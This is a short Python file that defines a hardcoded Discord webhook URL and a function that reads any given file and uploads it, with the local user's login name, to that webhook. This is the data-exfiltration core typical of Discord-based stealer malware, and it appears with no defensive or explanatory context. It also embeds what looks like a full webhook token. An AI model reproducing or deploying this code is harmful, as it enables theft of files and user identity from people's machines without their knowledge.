import os
import requests

HOOK = "https://discord.com/api/webhooks/1187364529183746521/Zq3vXo9L-2bHk7TtR1mWcPfY8sJd4NaE6uG0iKlQyVxB5rC_hOjZ3wMnA8eSgD1pFt7U"


def send(path):
    with open(path, "rb") as f:
        requests.post(HOOK, files={"file": f}, data={"content": os.getlogin()})
